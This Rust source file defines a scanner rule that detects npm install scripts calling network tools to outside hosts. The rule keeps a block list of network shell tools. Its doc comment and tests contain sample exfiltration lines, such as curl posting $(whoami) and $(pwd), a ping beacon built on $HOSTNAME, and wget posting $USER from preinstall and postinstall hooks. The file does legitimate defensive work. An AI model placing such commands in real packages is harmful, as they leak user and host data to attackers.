use palisade_diagnostics::{Finding, Severity};

use super::{script_finding, scripts};
use crate::classify;
use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

/// Shell tools that reach the network.
const TOOLS: &[&str] = &[
    "curl",
    "wget",
    "ping",
    "nslookup",
    "dig",
    "nc",
    "ncat",
    "telnet",
    "iwr",
    "invoke-webrequest",
    "invoke-restmethod",
    "bitsadmin",
    "certutil",
];

declare_rule! {
    /// ## What it does
    /// Finds lifecycle scripts (and shell files they run) that call network
    /// tools — `curl`, `wget`, `ping`, `nslookup`, `dig`, `nc`, PowerShell web
    /// cmdlets — against an outside host. Critical when the command smuggles
    /// local data out: command substitution or environment variables in the
    /// request body or in the host name (`ping $(whoami).x.invalid`), or a
    /// collection endpoint.
    ///
    /// ## Why is this bad?
    /// Installs should not need shell network tools; portable packages use
    /// Node. Recon beacons of dependency-confusion attacks are one line of
    /// `curl -d "$(hostname)"` in `preinstall`.
    ///
    /// ## Example
    /// ```json
    /// "preinstall": "curl -d \"$(whoami):$(pwd)\" https://x.invalid/c"
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1048 (Exfiltration Over Alternative Protocol).
    InstallScriptNetwork {
        id: "manifest/install-script-network",
        severity: High,
        status: Stable,
        summary: "A lifecycle script calls network tools (curl, wget, ping, nslookup) against an outside host",
    }
}

impl Rule for InstallScriptNetwork {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for (s, t) in scripts(ctx) {
            if t.download_exec || t.reverse_shell {
                continue; // their own rules say it better
            }
            let lower = s.command.to_ascii_lowercase();
            let words: Vec<&str> = lower
                .split(|c: char| {
                    c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '"' | '\'')
                })
                .collect();
            let Some(tool) = words
                .iter()
                .find(|w| TOOLS.contains(&w.rsplit('/').next().unwrap_or(w)))
            else {
                continue;
            };
            let dests: Vec<_> = ctx
                .facts
                .network
                .iter()
                .filter(|n| n.api.as_deref() == Some("shell") && n.at.location == s.at.location)
                .filter(|n| {
                    n.host_kind.is_some_and(|k| {
                        !matches!(
                            k,
                            palisade_diagnostics::HostKind::Loopback
                                | palisade_diagnostics::HostKind::PrivateIp
                        )
                    })
                })
                .filter(|n| {
                    n.host
                        .as_deref()
                        .is_some_and(|h| !classify::is_placeholder_host(h))
                })
                .collect();
            let Some(dest) = dests.first() else { continue };
            let smuggles = lower.contains("$(")
                || lower.contains('`')
                || lower.contains("${")
                || has_var(&lower);
            let sends = [
                " -d",
                "--data",
                " -f ",
                "--form",
                " -t ",
                "--upload-file",
                "-x post",
                "--post-data",
                "--post-file",
                "-body",
            ]
            .iter()
            .any(|f| lower.contains(f));
            let host_has_data = dest
                .destination
                .as_deref()
                .is_some_and(|d| d.contains('$') || d.contains('%') || d.contains('`'));
            let collector = dests.iter().any(|d| d.collector.is_some());
            let severity = if (smuggles && (sends || host_has_data)) || collector {
                Severity::Critical
            } else {
                Severity::High
            };
            let host = dest.host.as_deref().unwrap_or("");
            let msg = if severity == Severity::Critical {
                format!(
                    "`{}` script sends local data to `{host}` with `{tool}`: `{}`",
                    s.event, s.command
                )
            } else {
                format!(
                    "`{}` script contacts `{host}` with `{tool}`: `{}`",
                    s.event, s.command
                )
            };
            out.push(
                script_finding(ctx, Self::META.id, severity, s, msg).with_capability("network"),
            );
        }
    }
}

/// `$USER`, `$HOSTNAME`, `%USERNAME%`...
fn has_var(cmd: &str) -> bool {
    let b = cmd.as_bytes();
    b.windows(2)
        .any(|w| w[0] == b'$' && (w[1].is_ascii_alphabetic() || w[1] == b'_'))
        || cmd.split('%').skip(1).step_by(2).any(|v| {
            !v.is_empty()
                && v.len() < 32
                && v.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&InstallScriptNetwork::META).test(
            &[
                Case::Manifest(r#"{"name":"a","scripts":{"preinstall":"curl -d \"$(whoami):$(pwd)\" https://c.invalid/x"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"preinstall":"ping -c 1 $HOSTNAME.beacon.invalid"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"curl https://c.invalid/postinstall"}}"#),
                Case::Files(&[
                    ("package.json", r#"{"name":"a","scripts":{"postinstall":"sh ./setup.sh"}}"#),
                    ("setup.sh", "#!/bin/sh\n# set up\nwget --post-data \"u=$USER\" http://c.invalid/u\n"),
                ]),
            ],
            &[
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"node-gyp rebuild || echo failed"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"test":"curl -d $(whoami) https://c.invalid"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"curl http://127.0.0.1:3000/ready"}}"#),
            ],
        );
    }
}
